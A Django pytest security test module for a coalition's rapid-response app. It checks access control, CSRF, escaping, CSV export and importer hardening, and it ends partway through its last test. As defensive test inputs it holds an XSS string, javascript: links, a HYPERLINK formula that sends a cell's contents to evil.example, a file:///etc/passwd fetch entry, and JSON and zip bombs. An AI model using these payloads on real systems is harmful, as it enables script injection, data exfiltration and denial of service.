"""Security and data-integrity review of rapid response: each test asserts the secure behaviour, so a failing test
marks a hole.

Covered: nothing of a members-only situation (title, country, pledges, timeline, brief, statement, metrics, CSV,
alert links, index counts) reaches the Advisory Network, observers, guests or visitors; civil-society reports reach
the Support Unit and their audience only; a widened room still hides restricted reports and members-only or
embargoed statements; pledges only for one's own member, no IDOR across situations; hostile text escaped and
evidence links only http(s); no formulas in the CSV; importer bounds (nesting, huge numbers, rows, zip bombs, size
before reading); the ingestion task (symlinks, https only, no redirect to plain http, size cap); CSRF, GET-safety,
no caching of signed-in pages; every URL declares a rule.
"""

from __future__ import annotations

import csv
import datetime as dt
import http.client
import http.server
import io
import json
import multiprocessing
import re
import threading
import urllib.request
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.datastructures import MultiValueDict

from coalition.core.access import declared_policy, routes
from coalition.core.errors import InvalidInput
from coalition.core.policy import Classification, Role
from coalition.core.tests.clients import client_for, text_of
from coalition.directory.models import Country
from coalition.response import importers, services, tasks
from coalition.response.forms import ImportForm
from coalition.response.importers import importing
from coalition.response.models import (
    Alert,
    CivilSocietyReport,
    ImportBatch,
    PlaybookStep,
    Pledge,
    Signal,
    Situation,
    TimelineEntry,
    Tool,
)
from coalition.response.tests.test_importers import stop_csv, stop_row
from coalition.response.tests.test_views import member, raise_alert
from coalition.statements import services as statements
from coalition.statements.tests.test_services import open_round, past_deadline, sign

pytestmark = pytest.mark.django_db

BUDGET_SECONDS = 6.0  # a guard against runaway work on a shared machine, not a speed target
SECRET_TITLE = "Zubrowka ballot blackout: quiet demarche planned"
OUTSIDERS = (Role.ADVISORY_NETWORK, Role.OBSERVER, Role.GUEST)
XSS = '<script>alert("x")</script>'


# --- Fixtures and helpers -----------------------------------------------------------------------------------------


def country(code: str) -> Country:
    return Country.objects.get(code=code)


def open_one(by: Any, code: str = "IR", title: str = SECRET_TITLE, **fields: Any) -> Situation:
    return services.open_situation(by=by, country=country(code), title=title, **fields)


def outsiders(make_user: Any) -> list[Any]:
    return [make_user(role) for role in OUTSIDERS] + [None]


def not_cached(response: Any) -> bool:
    header = response.get("Cache-Control", "")
    return "no-store" in header and "private" in header


def counts() -> tuple[int, ...]:
    return (
        Situation.objects.count(),
        Pledge.objects.count(),
        TimelineEntry.objects.count(),
        CivilSocietyReport.objects.count(),
        Alert.objects.filter(status=Alert.Status.OPEN).count(),
        Tool.objects.count(),
        ImportBatch.objects.count(),
    )


def outcome_within(seconds: float, function: Callable[..., Any], *args: Any, **kwargs: Any) -> str:
    """Run `function` in a forked process: "refused" (InvalidInput), "accepted", "error: <type>" or "timeout"."""
    context = multiprocessing.get_context("fork")
    receiver, sender = context.Pipe(duplex=False)

    def run() -> None:
        try:
            function(*args, **kwargs)
            sender.send("accepted")
        except InvalidInput:
            sender.send("refused")
        except BaseException as error:
            sender.send(f"error: {type(error).__name__}")

    process = context.Process(target=run)
    process.start()
    process.join(seconds)
    if process.is_alive():
        process.kill()
        process.join()
        return "timeout"
    return str(receiver.recv()) if receiver.poll(1) else f"no answer (exit {process.exitcode})"


def parse(source: str, data: bytes, file_name: str = "f.json", **kwargs: Any) -> list[Any]:
    """The file parsed as an import reads it: invalid rows refuse the whole file (InvalidInput naming them)."""
    rows = importers.parse_file(
        source=source, file_name=file_name, data=data, countries=importers.Countries(), **kwargs
    )
    errors = [row for row in rows if isinstance(row, importers.RowError)]
    if errors:
        raise importing._refusal(errors)
    return rows


def published_statement(situation: Situation, support: Any, *, embargo_until: dt.datetime | None = None) -> Any:
    statement = services.fast_track_statement(situation, by=support, title="Fast statement", text="We deplore it.")
    signer = member("NL")
    freeze = open_round(statement, support)
    sign(freeze, signer)
    past_deadline(freeze)
    return statements.publish(statement=statement, by=support, embargo_until=embargo_until)


# --- A members-only situation stays with the member governments ---------------------------------------------------


def test_a_members_only_situation_reaches_no_outsider_anywhere(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: response.view (ByClassification) — a members-only situation's title, country, pledges, counts, metrics
    and CSV rows reach no Advisory Network member, observer, guest or visitor."""
    nl, focal = member("NL")
    situation = open_one(support, summary="Embassy staff report arrests")
    services.pledge(situation, by=focal, organisation=nl, tool=toolkit[0], description="Quiet call to the minister")
    PlaybookStep.objects.filter(situation=situation).update(status=PlaybookStep.Status.DONE)
    pages = [
        reverse("response:index"),
        reverse("response:metrics"),
        reverse("response:metrics") + "?format=csv",
        reverse("response:toolkit"),
        reverse("response:tool", args=[toolkit[0].pk]),
    ]
    for user in outsiders(make_user):
        client = client_for(user)
        for url in pages:
            response = client.get(url)
            body = response.content.decode()
            assert SECRET_TITLE not in body and "Iran" not in body, (user, url)
            assert "Quiet call to the minister" not in body
        assert client.get(reverse("response:situation", args=[situation.pk])).status_code in (302, 404)


def test_an_alert_and_its_situation_stay_with_the_members(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: Alert is members-only, and an alert links only to a situation the reader may read."""
    alert = raise_alert("MM")
    situation = services.open_situation(by=support, country=country("MM"), title=SECRET_TITLE, alert=alert)
    for user in outsiders(make_user):
        response = client_for(user).get(reverse("response:alert", args=[alert.pk]))
        assert response.status_code in (302, 404)
        assert SECRET_TITLE not in response.content.decode()
    official = make_user(Role.MEMBER_OFFICIAL)
    page = client_for(official).get(reverse("response:alert", args=[alert.pk]))
    assert reverse("response:situation", args=[situation.pk]) in page.content.decode()


def test_the_brief_of_a_widened_room_hides_members_only_past_situations(
    advisory: Any, support: Any, toolkit: Any
) -> None:
    """Rule: the brief lists only past situations the reader may read (queries.brief through visible_to)."""
    past = open_one(support, title="Old members-only response")
    services.close(past, by=support, review="Slow pledges.")
    current = open_one(support, title="Public response")
    services.widen(current, by=support, classification=Classification.COALITION)
    page = client_for(advisory).get(reverse("response:situation", args=[current.pk]))
    assert page.status_code == 200
    assert "Old members-only response" not in page.content.decode()


def test_a_widened_room_hides_a_members_only_draft_statement(advisory: Any, support: Any, toolkit: Any) -> None:
    """Rule: a widened situation shows its statement only to readers of the statement (a members-only draft)."""
    situation = open_one(support)
    services.fast_track_statement(situation, by=support, title="Draft naming the operators", text="Text.")
    services.widen(situation, by=support, classification=Classification.PUBLIC)
    for user in (advisory, None):
        body = client_for(user).get(reverse("response:situation", args=[situation.pk])).content.decode()
        assert SECRET_TITLE in body
        assert "Draft naming the operators" not in body


def test_a_widened_room_does_not_reveal_an_embargoed_statement(advisory: Any, support: Any, toolkit: Any) -> None:
    """Rule: an embargoed statement reads as members-only until release — a widened room's timeline, metrics and
    the metrics page must not tell outsiders it was published (or when the embargo lifts)."""
    situation = open_one(support)
    published_statement(situation, support, embargo_until=timezone.now() + dt.timedelta(days=2))
    services.widen(situation, by=support, classification=Classification.COALITION)
    room = client_for(advisory).get(reverse("response:situation", args=[situation.pk]))
    assert room.status_code == 200
    body = text_of(room)
    assert "Country statement published" not in body
    assert re.search(r"To the statement published\s*—", body)
    rows = list(
        csv.reader(io.StringIO(client_for(advisory).get(reverse("response:metrics") + "?format=csv").content.decode()))
    )
    minutes, counted = rows[0].index("minutes_to_statement"), rows[0].index("situations_to_statement")
    assert all(row[minutes] == "" for row in rows[1:]), rows
    assert rows[-1][counted] == "0"  # the year's median is over no statement the reader may know of


def test_a_published_statement_does_not_reveal_the_members_only_situation_title(support: Any, toolkit: Any) -> None:
    """Rule: a members-only situation's title reaches no visitor — not through the public page of the statement
    drafted from it (Statement.situation copies the title)."""
    situation = open_one(support)
    statement = published_statement(situation, support)
    page = Client().get(reverse("statements:statement", args=[statement.slug]))
    assert page.status_code == 200
    assert SECRET_TITLE not in page.content.decode()


# --- Civil-society reports ----------------------------------------------------------------------------------------


def test_a_report_reaches_only_the_support_unit_and_its_author(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: CivilSocietyReport is restricted to the Support Unit and its audience whatever the room's
    classification (not the Chair, not members, not other Advisory Network members, not the public)."""
    situation = open_one(support)
    services.widen(situation, by=support, classification=Classification.PUBLIC)
    author = make_user(Role.ADVISORY_NETWORK)
    secret = "Activist Z is hiding at the Westside safehouse"
    response = client_for(author).post(reverse("response:report", args=[situation.pk]), {"text": secret})
    assert response.status_code == 302
    others = [make_user(role) for role in (Role.CHAIR, Role.FOCAL_POINT, Role.MEMBER_OFFICIAL, *OUTSIDERS)] + [None]
    for user in others:
        client = client_for(user)
        for url in (
            reverse("response:situation", args=[situation.pk]),
            reverse("response:index"),
            reverse("response:metrics"),
            reverse("response:metrics") + "?format=csv",
        ):
            assert "Westside safehouse" not in client.get(url).content.decode(), (user, url)
    assert (
        "Westside safehouse"
        in client_for(author).get(reverse("response:situation", args=[situation.pk])).content.decode()
    )
    assert (
        "Westside safehouse"
        in client_for(support).get(reverse("response:situation", args=[situation.pk])).content.decode()
    )
    assert not TimelineEntry.objects.filter(text__contains="Westside").exists()


def test_no_report_into_a_room_the_reporter_cannot_read(advisory: Any, support: Any, make_user: Any) -> None:
    """Rule: response.report on what they can read — a report to a members-only room is a 404 and saves nothing;
    observers and guests do not report."""
    situation = open_one(support)
    before = counts()
    assert client_for(advisory).post(reverse("response:report", args=[situation.pk]), {"text": "x"}).status_code == 404
    for role in (Role.OBSERVER, Role.GUEST):
        response = client_for(make_user(role)).post(reverse("response:report", args=[situation.pk]), {"text": "x"})
        assert response.status_code in (403, 404)
    assert counts() == before


# --- Pledges and IDOR ---------------------------------------------------------------------------------------------


def test_a_forged_pledge_for_another_member_is_refused(support: Any, toolkit: Any) -> None:
    """Rule: response.pledge — a focal point pledges for their own member only, whatever the POST says."""
    _, focal = member("NL")
    de, _ = member("DE")
    situation = open_one(support)
    data = {"organisation": de.pk, "tool": toolkit[0].pk, "description": "Forged"}
    response = client_for(focal).post(reverse("response:pledge", args=[situation.pk]), data)
    assert response.status_code in (400, 403)
    assert not Pledge.objects.exists()


def test_a_member_cannot_change_another_members_pledge(support: Any, toolkit: Any) -> None:
    """Rule: response.pledge for the pledge's organisation — another member's focal point cannot deliver or withdraw
    it."""
    nl, nl_focal = member("NL")
    _, de_focal = member("DE")
    situation = open_one(support)
    item = services.pledge(situation, by=nl_focal, organisation=nl, tool=toolkit[0], description="Call")
    url = reverse("response:pledge_status", args=[situation.pk, item.pk])
    response = client_for(de_focal).post(url, {"status": Pledge.Status.WITHDRAWN})
    assert response.status_code in (400, 403)
    item.refresh_from_db()
    assert item.status == Pledge.Status.PLEDGED


def test_pledge_and_step_ids_of_one_situation_are_404_under_another(support: Any, toolkit: Any) -> None:
    """Rule: a pledge or playbook step is reached only under its own situation's URL (no IDOR across situations)."""
    nl, focal = member("NL")
    first = open_one(support, "IR", title="First")
    second = open_one(support, "MM", title="Second")
    item = services.pledge(first, by=focal, organisation=nl, tool=toolkit[0], description="Call")
    step = first.steps.first()
    assert step is not None
    status = step.status  # underway: the pledge moved it
    for client in (client_for(support), client_for(focal)):
        url = reverse("response:pledge_status", args=[second.pk, item.pk])
        assert client.post(url, {"status": Pledge.Status.DELIVERED}).status_code in (403, 404)
    url = reverse("response:step", args=[second.pk, step.pk])
    assert client_for(support).post(url, {"status": "done", "owner": "X", "note": "n"}).status_code == 404
    item.refresh_from_db()
    step.refresh_from_db()
    assert item.status == Pledge.Status.PLEDGED and step.status == status


def test_only_managers_change_steps_close_and_only_the_support_unit_widens(make_user: Any, toolkit: Any) -> None:
    """Rules: response.manage (steps, closing), response.widen (Support Unit only), response.open_situation (notes)."""
    support = make_user(Role.SUPPORT_UNIT)
    situation = open_one(support)
    step = situation.steps.first()
    assert step is not None
    before = counts()
    for role in (Role.FOCAL_POINT, Role.MEMBER_OFFICIAL, Role.CHAIR):
        client = client_for(make_user(role))
        assert (
            client.post(reverse("response:widen", args=[situation.pk]), {"classification": "public"}).status_code == 403
        )
    for role in (Role.FOCAL_POINT, Role.MEMBER_OFFICIAL):
        client = client_for(make_user(role))
        assert client.post(reverse("response:close", args=[situation.pk]), {"review": "r"}).status_code == 403
        url = reverse("response:step", args=[situation.pk, step.pk])
        assert client.post(url, {"status": "done"}).status_code == 403
    situation.refresh_from_db()
    assert situation.classification == Classification.MEMBERS and situation.status == Situation.Status.OPEN
    assert counts() == before


# --- Hostile text -------------------------------------------------------------------------------------------------


def test_hostile_text_is_escaped_on_every_page(make_user: Any, support: Any, toolkit: Any) -> None:
    """Rule: user and imported text (signal network/region, situation title/summary, notes, reports, pledges, tool
    texts) is escaped wherever it is shown."""
    alert = raise_alert("MM")
    Signal.objects.filter(alerts=alert).update(network=XSS, region=XSS)
    tool = services.save_tool(
        by=support, name=f"Tool {XSS}", kind=Tool.Kind.OTHER, when_to_use=XSS, who_can_use=XSS, suggested_lead=XSS
    )
    situation = services.open_situation(by=support, country=country("MM"), title=XSS, summary=XSS, alert=alert)
    nl, focal = member("NL")
    services.pledge(situation, by=focal, organisation=nl, tool=tool, description=XSS)
    services.add_note(situation, by=support, text=XSS)
    services.add_report(situation, by=support, text=XSS)
    client = client_for(support)
    for url in (
        reverse("response:index"),
        reverse("response:signals"),
        reverse("response:alert", args=[alert.pk]),
        reverse("response:situation", args=[situation.pk]),
        reverse("response:toolkit"),
        reverse("response:tool", args=[tool.pk]),
        reverse("response:metrics"),
    ):
        body = client.get(url).content.decode()
        assert "<script>alert" not in body, url


def test_an_evidence_link_is_only_ever_http_or_https(support: Any) -> None:
    """Rule: evidence_url is rendered as a link only with an http(s) scheme (no javascript: links), whatever put
    it in the database."""
    for n, url in enumerate(("javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html,x")):
        Signal.objects.create(
            source="report",
            external_id=f"hostile-{n}",
            country=country("MM"),
            kind="outage",
            starts_at=timezone.now() - dt.timedelta(hours=2),
            evidence_url=url,
        )
    body = client_for(support).get(reverse("response:signals")).content.decode().lower()
    assert 'href="javascript:' not in body and 'href="data:' not in body


def test_imported_evidence_links_are_http_or_https_only(support: Any) -> None:
    """Rule: importers keep only http(s) evidence URLs (Cloudflare linkedUrl, STOP an_link)."""
    start = (timezone.now() - dt.timedelta(hours=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    annotation = {"id": "x1", "startDate": start, "locations": ["MM"], "linkedUrl": "javascript:alert(1)//"}
    data = json.dumps({"success": True, "result": {"annotations": [annotation]}}).encode()
    importers.import_file(by=support, source="cloudflare", file_name="r.json", data=data)
    sheet = stop_csv(stop_row(area="A").replace("https://example.org/A", "javascript:alert(1)"))
    importers.import_file(by=support, source="stop", file_name="stop_2021.csv", data=sheet)
    for url in Signal.objects.values_list("evidence_url", flat=True):
        assert url == "" or url.startswith(("https://", "http://")), url


def test_skipped_row_reasons_from_a_file_are_escaped(support: Any) -> None:
    """Rule: text from an imported file (reported in the skipped rows) is escaped on the import page."""
    sheet = stop_csv(stop_row(area="A", kind=XSS.replace(",", " ")))
    upload = SimpleUploadedFile("stop_2021.csv", sheet, content_type="text/csv")
    page = client_for(support).post(reverse("response:import"), {"file": upload, "source": "stop"}, follow=True)
    assert "<script>alert" not in page.content.decode()


def test_the_metrics_csv_has_no_formulas(support: Any) -> None:
    """Rule: a CSV export must not carry a cell a spreadsheet reads as a formula (=, +, -, @, tab, CR)."""
    for code, prefix in zip(("IR", "MM", "IN", "PK", "ET", "SD"), ("=", "+", "-", "@", "\t", "\r"), strict=True):
        open_one(support, code, title=f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"x")')
    content = client_for(support).get(reverse("response:metrics") + "?format=csv").content.decode()
    for row in list(csv.reader(io.StringIO(content)))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-H"), row


# --- Importer hardening -------------------------------------------------------------------------------------------


def test_deeply_nested_json_is_refused_in_time() -> None:
    """Rule: a JSON bomb (deep nesting) is refused with a message, not a crash or a stall."""
    bomb = b"[" * 200_000 + b"]" * 200_000
    assert outcome_within(BUDGET_SECONDS, parse, "ooni", bomb) == "refused"
    nested = b'{"result": ' + b'{"a": ' * 100_000 + b"1" + b"}" * 100_000 + b', "db_stats": {}}'
    assert outcome_within(BUDGET_SECONDS, parse, "ooni", nested) == "refused"


def test_huge_numbers_in_json_are_refused_not_a_crash() -> None:
    """Rule: bad input gets a clear message naming the row — huge integers, 1e999 and out-of-range timestamps are
    refused (InvalidInput), never an unhandled ValueError/OverflowError (a 500)."""
    digits = json.dumps({"measurement_uid": "u", "probe_cc": "MM"}).replace('"u"', "1" + "0" * 5000).encode()
    aggregate = (
        b'{"db_stats": {}, "dimension_count": 1, "result": [{"measurement_start_day": "2024-01-01", '
        b'"probe_cc": "MM", "anomaly_count": 1e999, "confirmed_count": 1e999, "measurement_count": 1e999}]}'
    )
    series = {"entityType": "country", "entityCode": "MM", "datasource": "bgp", "step": 300, "values": [10, 1, 10]}
    ioda_inf = json.dumps({"type": "signals", "data": [[{**series, "from": 1e999}]]}).replace("Infinity", "1e999")
    ioda_far = json.dumps({"type": "signals", "data": [[{**series, "from": 10**15}]]})
    for source, data in (
        ("ooni", digits),
        ("ooni", aggregate),
        ("ioda", ioda_inf.encode()),
        ("ioda", ioda_far.encode()),
    ):
        assert outcome_within(BUDGET_SECONDS, parse, source, data) == "refused", (source, data[:80])


def test_json_files_with_more_than_the_row_limit_are_refused() -> None:
    """Rule: one import takes up to MAX_ROWS rows, for every source (OONI aggregations and IODA series too)."""
    many = importers.MAX_ROWS + 1
    day = {"measurement_start_day": "2024-01-01", "probe_cc": "MM", "confirmed_count": 1, "measurement_count": 1}
    aggregate = {"db_stats": {}, "dimension_count": 2, "result": [{**day, "probe_asn": n} for n in range(many)]}
    series = {"entityType": "country", "entityCode": "MM", "datasource": "x", "from": 0, "step": 300, "values": [1]}
    ioda = {"type": "signals", "data": [[series] * many]}
    for source, document in (("ooni", aggregate), ("ioda", ioda)):
        assert outcome_within(BUDGET_SECONDS, parse, source, json.dumps(document).encode()) == "refused", source


def test_a_sheet_with_more_than_the_row_limit_is_refused() -> None:
    """Rule: a 100k-row sheet (beyond MAX_ROWS) is refused, whatever the sheet's declared dimension."""
    sheet = stop_csv(*([stop_row(area="A")] + [",,,,"] * (importers.MAX_ROWS + 1)))
    assert outcome_within(BUDGET_SECONDS, parse, "stop", sheet, "stop_2021.csv") == "refused"


def xlsx(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    b'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    b'Target="sharedStrings.xml"/></Relationships>'
)


def sheet_xml(cells: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main"><dimension ref="A1:G2"/><sheetData><row r="1">' + cells + b"</row></sheetData></worksheet>"
    )


STOP_HEADER = ["start_date", "country", "area_name", "shutdown_type", "affected_network", "shutdown_extent", "end_date"]


def inline_cells(values: list[str] | list[str | None], row: int) -> bytes:
    """Inline-string cells of one row; None is a formula cell without a cached value."""
    cells = b""
    for column, value in enumerate(values):
        ref = f"{chr(65 + column)}{row}".encode()
        if value is None:
            cells += b'<c r="' + ref + b'"><f>HYPERLINK("https://evil.example","x")</f></c>'
        else:
            cells += b'<c r="' + ref + b'" t="inlineStr"><is><t>' + value.encode() + b"</t></is></c>"
    return cells


def test_an_xlsx_zip_bomb_is_refused_before_it_is_inflated() -> None:
    """Rule: a workbook whose parts inflate far beyond the file limit (sharedStrings bomb, ratio > 1000:1) is refused
    before openpyxl reads it, in time (the sheet itself is a valid, empty STOP sheet: only the bomb can refuse it)."""
    strings = b"<si><t>" + b"a" * 1000 + b"</t></si>"
    count = 100_000  # ~100 MB inflated, ~100 KB compressed
    shared = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        + f' count="{count}" uniqueCount="{count}">'.encode()
        + strings * count
        + b"</sst>"
    )
    bomb = xlsx(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": RELS,
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet_xml(inline_cells(STOP_HEADER, 1)),
            "xl/sharedStrings.xml": shared,
        }
    )
    assert len(bomb) < 1024 * 1024
    assert outcome_within(BUDGET_SECONDS, parse, "stop", bomb, "stop_2021.xlsx") == "refused"


def test_formula_cells_are_not_imported_as_text(support: Any) -> None:
    """Rule: a formula cell is never evaluated nor stored as a formula (openpyxl data_only, read-only)."""
    row: list[str | None] = ["2021-03-01", "India", None, "Shutdown", "Mobile", "Full network", "2021-03-02"]
    sheet = sheet_xml(inline_cells(STOP_HEADER, 1)).replace(
        b"</row>", b'</row><row r="2">' + inline_cells(row, 2) + b"</row>"
    )
    book = xlsx(
        {
            "[Content_Types].xml": CONTENT_TYPES.split(b'<Override PartName="/xl/sharedStrings.xml"')[0] + b"</Types>",
            "_rels/.rels": RELS,
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS.split(b'<Relationship Id="rId2"')[0] + b"</Relationships>",
            "xl/worksheets/sheet1.xml": sheet,
        }
    )
    importers.import_file(by=support, source="stop", file_name="stop_2021.xlsx", data=book)
    assert Signal.objects.count() == 1
    for region, network in Signal.objects.values_list("region", "network"):
        assert "HYPERLINK" not in region and not region.startswith("=") and "HYPERLINK" not in network


class Unreadable(SimpleUploadedFile):
    def read(self, *args: Any, **kwargs: Any) -> bytes:
        raise AssertionError("an oversized upload was read")


def test_an_oversized_upload_is_refused_before_it_is_read(settings: Any, support: Any) -> None:
    """Rule: file-size checks come before reading (ImportForm.clean_file, importers.importing._import)."""
    settings.RESPONSE_MAX_FILE_BYTES = 1000
    files = MultiValueDict({"file": [Unreadable("stop_2021.csv", b"x" * 5000)]})
    form = ImportForm(data={"source": "stop"}, files=files)  # type: ignore[arg-type]
    assert not form.is_valid() and "file" in form.errors
    with pytest.raises(InvalidInput):
        importers.import_file(by=support, source="stop", file_name="s.csv", data=b"x" * 5000)
    assert not ImportBatch.objects.exists()


# --- Scheduled ingestion ------------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path, settings: Any) -> Path:
    root = tmp_path / "ingest"
    root.mkdir()
    settings.RESPONSE_INGEST_DIR = str(root)
    settings.RESPONSE_FETCH_URLS = []
    (root / "stop").mkdir()
    return root


def test_ingestion_does_not_follow_symlinks_out_of_its_folder(folder: Path, tmp_path: Path) -> None:
    """Rule: the ingestion reads only regular files inside RESPONSE_INGEST_DIR — a symlink to a file elsewhere is
    not followed (path traversal)."""
    outside = tmp_path / "elsewhere" / "stop_2021.csv"
    outside.parent.mkdir()
    outside.write_bytes(stop_csv(stop_row(area="Outside")))
    (folder / "stop" / "stop_2021.csv").symlink_to(outside)
    tasks.ingest()
    assert not ImportBatch.objects.exists() and not Signal.objects.exists()


def test_ingestion_fetches_only_configured_https_addresses(
    folder: Path, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rule: only `source=https://…` entries are fetched; http, file and unknown sources are refused unfetched."""
    fetched: list[str] = []
    monkeypatch.setattr(urllib.request, "urlopen", lambda url, *a, **k: fetched.append(url))
    settings.RESPONSE_FETCH_URLS = [
        "stop=http://example.org/stop_2021.csv",
        "stop=file:///etc/passwd",
        "evil=https://example.org/x.json",
        "ooni=ftp://example.org/x.json",
    ]
    report = tasks.ingest()
    assert fetched == [] and len(report.refused) == 4


@pytest.fixture
def local_server(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, list[str]]]:
    """A plain-HTTP server standing in for an https address (the https handler is pointed at it); it answers
    /redirect with a 302 to a plain http:// address, /big with more than the limit, /data with a STOP sheet."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            port = int(self.server.server_address[1])  # type: ignore[index]
            if self.path == "/redirect":
                self.send_response(302)
                self.send_header("Location", f"http://127.0.0.1:{port}/stop_2021.csv")
                self.end_headers()
                return
            body = b"x" * 4096 if self.path == "/big.csv" else stop_csv(stop_row(area="Plain"))
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(urllib.request, "_opener", None)
    monkeypatch.setattr(
        urllib.request.HTTPSHandler,
        "https_open",
        lambda self, req: self.do_open(http.client.HTTPConnection, req),
    )
    try:
        yield f"https://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_a_fetch_is_not_redirected_to_plain_http(folder: Path, settings: Any, local_server: Any) -> None:
    """Rule: ingestion fetches only https — a configured https address redirecting to http:// is refused, not
    followed (downgrade to a tamperable channel)."""
    base, hits = local_server
    settings.RESPONSE_FETCH_URLS = [f"stop={base}/redirect"]
    tasks.ingest()
    assert "/stop_2021.csv" not in hits
    assert not Signal.objects.exists()


def test_a_fetched_answer_larger_than_the_limit_is_refused(folder: Path, settings: Any, local_server: Any) -> None:
    """Rule: the answer of a fetch is capped at RESPONSE_MAX_FILE_BYTES (read bounded, nothing saved)."""
    base, _ = local_server
    settings.RESPONSE_MAX_FILE_BYTES = 1000
    settings.RESPONSE_FETCH_URLS = [f"stop={base}/big.csv"]
    report = tasks.ingest()
    assert len(report.refused) == 1 and "larger" in report.refused[0]
    assert not ImportBatch.objects.exists()


# --- CSRF, GET-safety, caching, declared rules, admin -------------------------------------------------------------


def post_actions(support: Any, toolkit: list[Tool]) -> list[tuple[str, dict[str, Any]]]:
    nl, focal = member("NL")
    alert = raise_alert("MM")
    situation = open_one(support)
    item = services.pledge(situation, by=focal, organisation=nl, tool=toolkit[0], description="Call")
    step = situation.steps.first()
    assert step is not None
    return [
        (reverse("response:dismiss", args=[alert.pk]), {"reason": "noise"}),
        (reverse("response:open"), {"country": country("PK").pk, "title": "T"}),
        (
            reverse("response:pledge", args=[situation.pk]),
            {"organisation": nl.pk, "tool": toolkit[1].pk, "description": "d"},
        ),
        (reverse("response:pledge_status", args=[situation.pk, item.pk]), {"status": "delivered"}),
        (reverse("response:step", args=[situation.pk, step.pk]), {"status": "done"}),
        (reverse("response:note", args=[situation.pk]), {"text": "n"}),
        (reverse("response:report", args=[situation.pk]), {"text": "r"}),
        (reverse("response:fast_track", args=[situation.pk]), {"title": "t", "text": "x"}),
        (reverse("response:widen", args=[situation.pk]), {"classification": "public"}),
        (reverse("response:close", args=[situation.pk]), {"review": "r"}),
        (
            reverse("response:toolkit"),
            {"name": "N", "kind": "other", "when_to_use": "w", "who_can_use": "w", "position": 0},
        ),
        (
            reverse("response:tool", args=[toolkit[0].pk]),
            {"name": "N2", "kind": "other", "when_to_use": "w", "who_can_use": "w", "position": 0},
        ),
        (reverse("response:import"), {"source": "stop"}),
    ]


def state() -> tuple[Any, ...]:
    return (
        counts(),
        list(Situation.objects.values_list("classification", "status", "statement_id")),
        list(Pledge.objects.values_list("status")),
        list(PlaybookStep.objects.values_list("status")),
        list(Tool.objects.values_list("name")),
    )


def test_every_post_action_needs_a_csrf_token(support: Any, toolkit: list[Tool]) -> None:
    """Rule: every POST action is CSRF-protected (a forged cross-site POST changes nothing)."""
    actions = post_actions(support, toolkit)
    before = state()
    client = Client(enforce_csrf_checks=True)
    client.force_login(support)
    for url, data in actions:
        assert client.post(url, data).status_code == 403, url
    assert state() == before


def test_get_changes_nothing(support: Any, toolkit: list[Tool]) -> None:
    """Rule: GET is safe — a link or an image cannot dismiss, pledge, widen, close or add anything."""
    actions = post_actions(support, toolkit)
